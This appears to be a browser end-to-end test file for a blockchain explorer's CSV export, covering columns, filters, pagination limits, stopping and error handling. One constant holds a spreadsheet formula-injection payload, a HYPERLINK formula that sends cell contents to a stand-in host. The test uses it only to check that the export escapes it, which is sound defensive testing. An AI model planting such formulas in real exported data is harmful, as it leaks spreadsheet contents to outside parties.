// Lists of an account as files: all that is chosen, page by page, as far as one file goes.

import { readFile } from 'node:fs/promises'
import { beforeAll, expect, test } from 'vitest'
import { writeBoc } from '../../../server/cell/index.ts'
import { commentBody } from '../../../server/devchain/index.ts'
import { client, inBrowser, open, page } from '../../setup/explorerScene.ts'
import { mockReplies } from '../../setup/mockedReplies.ts'
import { serve } from '../../setup/service.ts'
import { untilIndexed } from '../../setup/untilIndexed.ts'

const ACCOUNT = `0:${'71'.repeat(32)}`
const SENDER = `0:${'72'.repeat(32)}`
/** More than one page of either list. */
const SENT = 130
const FORMULA = `=HYPERLINK("https://example.com?"&A1)`

/** Cells of a file, by its lines. */
function cellsOf(text: string): readonly (readonly string[])[] {
  expect(text.startsWith('\ufeff')).toBe(true)
  const lines = text.slice(1).split('\r\n')
  expect(lines.pop()).toBe('')
  return lines.map((line) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
      ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
    ),
  )
}

const save = () => page.getByRole('button', { name: 'Save as CSV' })

async function saved() {
  const [file] = await Promise.all([page.waitForEvent('download'), save().click()])
  const [head = [], ...rows] = cellsOf(await readFile(await file.path(), 'utf8'))
  const column = (name: string) => rows.map((row) => row[head.indexOf(name)])
  return { name: file.suggestedFilename(), rows, column }
}

const start = () => serve({ withIndex: true, config: { mining: 'manual' } })

inBrowser(start, () => {
  beforeAll(async () => {
    const send = (comment: string) =>
      client.dev.sendInternal({
        from: SENDER,
        to: ACCOUNT,
        value: '1500000000',
        bounce: false,
        body: Buffer.from(writeBoc(commentBody(comment))).toString('base64'),
      })
    const sending = [FORMULA, '-5', 'fine "one", two', ...Array.from({ length: SENT - 3 }, (_, at) => `no ${at}`)].map(
      send,
    )
    let isSent = false
    const all = Promise.all(sending).finally(() => {
      isSent = true
    })
    while (!isSent) await client.dev.mine({ blocks: 1 })
    await all
    await untilIndexed(client, (await client.dev.mine({ blocks: 1 })).seqno)
  })

  test('the button is in the row of what is chosen on a screen of 1280 pixels', async () => {
    await page.setViewportSize({ width: 1280, height: 900 })
    await open(`/address/${ACCOUNT}`)
    await save().waitFor()
    const middles = await page.locator('.filters > :not(.for-readers)').evaluateAll((all) =>
      all.map((one) => {
        const { top, bottom } = one.getBoundingClientRect()
        return (top + bottom) / 2
      }),
    )
    expect(middles.length).toBeGreaterThan(5)
    expect(Math.max(...middles) - Math.min(...middles)).toBeLessThan(5)
  })

  test('the history is saved with every action, and no comment is a formula', async () => {
    await open(`/address/${ACCOUNT}`)
    const { name, rows, column } = await saved()
    expect(name).toMatch(/^actions-[\w-]{48}\.csv$/)
    expect(rows.length).toBe(SENT)
    expect(new Set(column('Kind'))).toEqual(new Set(['Transfer']))
    expect(column('Comment')).toEqual(expect.arrayContaining([`'${FORMULA}`, "'-5", 'fine "one", two', 'no 126']))
    expect(new Set(column('Amount'))).toEqual(new Set(['1.5']))
    expect(new Set(column('Asset'))).toEqual(new Set(['TON']))
    const friendly = await client.v3.addressBook({ address: [SENDER, ACCOUNT] })
    expect(new Set(column('From'))).toEqual(new Set([friendly[SENDER]?.user_friendly]))
    expect(new Set(column('To'))).toEqual(new Set([friendly[ACCOUNT]?.user_friendly]))
    await page.getByText(`Saved ${SENT} actions.`).waitFor()
    await save().waitFor()
  })

  test('what is not chosen is not saved', async () => {
    await open(`/address/${ACCOUNT}?show=out`)
    await save().click()
    await page.getByText('There is nothing to save.').waitFor()
    await open(`/address/${ACCOUNT}?kind=ton&order=oldest`)
    const { rows, column } = await saved()
    expect(rows.length).toBe(SENT)
    expect(column('Time (UTC)')).toEqual([...column('Time (UTC)')].sort())
    await open(`/address/${ACCOUNT}?until=2020-01-01`)
    await save().click()
    await page.getByText('There is nothing to save.').waitFor()
  })

  test('transactions are saved with what each changed', async () => {
    await open(`/address/${ACCOUNT}?tab=transactions`)
    const { name, rows, column } = await saved()
    expect(name).toMatch(/^transactions-[\w-]{48}\.csv$/)
    const { transactions } = await client.v3.transactions({ account: [ACCOUNT], limit: 1_000 })
    expect(column('Logical time')).toEqual(transactions.map(({ lt }) => lt))
    expect(rows.length).toBe(SENT)
    expect(column('Value in TON')).toEqual(transactions.map(() => '1.5'))
    const sum = column('Change in TON').reduce((total, text) => total + Number(text), 0)
    expect(sum).toBeGreaterThan(SENT * 1.49)
    expect(sum).toBeLessThanOrEqual(SENT * 1.5)
  })

  test('a list without an end is saved as far as one file goes, and a person can stop before', async () => {
    const [pattern] = (await client.v3.actions({ account: ACCOUNT, limit: 1 })).actions
    if (pattern === undefined) throw new Error('the account has no action')
    const asked: (string | undefined)[] = []
    await mockReplies(page, /\/address\//, 'v3.actions', ({ cursor, limit = 0 }, real) => {
      asked.push(cursor)
      return { ...real, actions: Array.from({ length: Number(limit) }, () => pattern), cursor: String(asked.length) }
    })
    await open(`/address/${ACCOUNT}`)
    const { rows } = await saved()
    expect(rows.length).toBe(5_000)
    expect(asked).toEqual(Array.from({ length: 50 }, (_, at) => (at === 0 ? undefined : String(at))))
    await page.getByText('Saved 5000 actions, of the 5000 newest. There are more').waitFor()
    asked.length = 0
    let release = (): void => undefined
    const held = new Promise<void>((resolve) => (release = resolve))
    await page.route(/\/jsonRPC$/, async (route) => {
      if (asked.length > 1) await held
      await route.fallback()
    })
    await save().click()
    await page.getByRole('button', { name: 'Stop: 200 read' }).click()
    const [file] = await Promise.all([page.waitForEvent('download'), release()])
    // The page that was on its way is in it.
    expect(cellsOf(await readFile(await file.path(), 'utf8')).length - 1).toBe(300)
  })

  test('a failure in the middle says so, saves nothing, and the button is there again', async () => {
    await open(`/address/${ACCOUNT}`)
    await page.route(/\/jsonRPC$/, (route) => {
      if (!route.request().postData()?.includes('"cursor"')) return route.continue()
      const { id } = [route.request().postDataJSON()].flat()[0]
      return route.fulfill({ json: { jsonrpc: '2.0', id, error: { code: -32603, message: 'Internal error' } } })
    })
    let files = 0
    page.on('download', () => files++)
    await save().click()
    await page.getByText(/^Nothing was saved: /).waitFor()
    await save().waitFor()
    expect(files).toBe(0)
  })
})
